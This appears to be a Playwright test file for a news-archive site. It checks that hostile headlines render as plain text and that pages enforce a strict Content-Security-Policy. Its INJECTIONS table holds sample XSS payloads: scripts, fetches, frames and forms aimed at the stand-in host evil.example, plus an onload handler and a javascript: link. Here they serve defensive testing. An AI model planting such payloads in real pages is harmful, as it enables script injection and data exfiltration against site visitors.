"""What hostile publishers write is shown as they wrote it, and does nothing: whatever page it stands on."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote_plus

import pytest
from playwright.sync_api import Browser

from tests.browser import hostile
from tests.browser.hostile import TEXTS
from tests.browser.served import serving
from tests.browser.visiting import Visit, visiting

ADDRESSES = """() => [...document.querySelectorAll("*")].flatMap(element =>
    ["href", "src", "srcset", "action", "formaction", "data", "poster", "background", "ping", "xlink:href"]
    .filter(name => element.hasAttribute(name))
    .map(name => {
        let url
        try { url = new URL(element.getAttribute(name), document.baseURI) } catch { url = new URL("invalid:") }
        return [element.matches("a, link[rel=canonical]"), name, url.protocol, url.host]
    }))"""
HANDLERS = """() => [...document.querySelectorAll("*")].flatMap(element =>
    element.getAttributeNames().filter(name => name.startsWith("on")).map(name => `${element.localName} ${name}`))"""
INJECTIONS = {
    "a script without a nonce": """const script = document.createElement("script")
        script.textContent = "window.ran = 1"; document.body.append(script)""",
    "a script of another host": """const script = document.createElement("script")
        script.src = "https://evil.example/x.js"; document.body.append(script)""",
    "a handler": """document.body.insertAdjacentHTML("beforeend", "<svg onload='window.ran = 1'></svg>")""",
    "a javascript: link": """const link = document.createElement("a")
        link.href = "javascript:window.ran = 1"; document.body.append(link); link.click()""",
    "text as a script": """try { setTimeout("window.ran = 1", 0) } catch {}""",
    "an image of another host": """new Image().src = "https://evil.example/x.gif" """,
    "a call of another host": """fetch("https://evil.example/").catch(() => {})""",
    "a frame of another host": """const frame = document.createElement("iframe")
        frame.src = "https://evil.example/"; document.body.append(frame)""",
    "a form to another host": """const form = document.createElement("form")
        form.action = "https://evil.example/"; document.body.append(form); form.submit()""",
}
"""What a publisher's markup would do, had it got into a page."""
SQL = "select+headline,+url,+image_url,+short_url,+flags+from+articles"


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a server of the hostile archive."""
    with serving(hostile.make(tmp_path_factory.mktemp("hostile"))) as found:
        yield found


@pytest.fixture
def visit(browser: Browser, address: str) -> Iterator[Visit]:
    with visiting(browser, address) as opened:
        yield opened


def is_safe(visit: Visit, path: str) -> None:
    """Open a page: it brings the policy, has no handler, loads from this server only, and all links are of the web."""
    response = visit.open(path)
    policy = dict(part.strip().split(" ", 1) for part in response.headers["content-security-policy"].split(";"))
    assert policy["default-src"] == "'none'"
    assert "unsafe" not in policy["script-src"]
    assert visit.page.evaluate(HANDLERS) == []
    own = visit.page.evaluate("location.host")
    for is_link, attribute, scheme, host in visit.page.evaluate(ADDRESSES):
        assert scheme in ("http:", "https:"), (path, attribute, scheme)
        assert is_link or host == own, (path, attribute, host)
    assert visit.wrong == [], path


def shown(text: str) -> str:
    """A text as HTML can hold it: no parser keeps NUL, and half a surrogate pair is no character."""
    return text.replace("\x00", "") + ("\ufffd" * 3 if text == TEXTS["emoji"] else "")


def test_headlines_stand_on_the_front_page_as_typed(visit: Visit) -> None:
    is_safe(visit, "/news/-/news")
    headlines = visit.page.locator("main").locator("h3, .version a").all()
    assert {each.text_content() for each in headlines} == {shown(text) for text in TEXTS.values()}


@pytest.mark.parametrize("name", TEXTS)
def test_an_article_is_shown_as_typed(visit: Visit, name: str) -> None:
    number = list(TEXTS).index(name) + 1
    is_safe(visit, f"/news/articles/{number}")
    assert visit.page.get_by_role("heading", level=1).text_content() == shown(TEXTS[name])


@pytest.mark.parametrize("name", TEXTS)
def test_what_a_visitor_types_is_text_as_well(visit: Visit, name: str) -> None:
    typed = quote_plus(TEXTS[name][:500])
    for path in (
        f"/news/-/news?language={typed}&section={typed}&site={typed}&until={typed}&before={typed}",
        f"/news/-/search?q={typed}&language={typed}&section={typed}&tag={typed}&since={typed}&until={typed}",
        f"/news/articles?_search={typed}&headline__contains={typed}&_facet=section&_facet=site",
    ):
        is_safe(visit, path)


@pytest.mark.parametrize(
    "path", ["", *(f"/{name}" for name in (
        "articles", "articles?_facet=language&_facet=section&_facet=parser", "alternates", "article_tags", "authors",
        "failures", "failures/1", "images", "provenance", "revisions", "runs", "runs/1", "sites", "snapshots", "tags",
        "tags/1", "url_aliases", "-/charts", "-/cite/1.bib", "-/cite/1.json", "-/page/1", "-/diff/1?from=1&to=2",
    )), f"?sql={SQL}"],
)  # fmt: skip
def test_every_other_page_is_safe(visit: Visit, path: str) -> None:
    is_safe(visit, f"/news{path}")


@pytest.mark.parametrize("path", ["/news/-/news", "/news/articles", "/news/articles/1"])
def test_the_policy_bites(visit: Visit, path: str) -> None:
    visit.open(path)
    for what, injected in INJECTIONS.items():
        with visit.page.expect_console_message(lambda message: "Content Security Policy" in message.text):
            visit.page.evaluate(f"() => {{ {injected} }}")
        assert visit.page.evaluate("window.ran") is None, what
        visit.forgive("Content Security Policy")
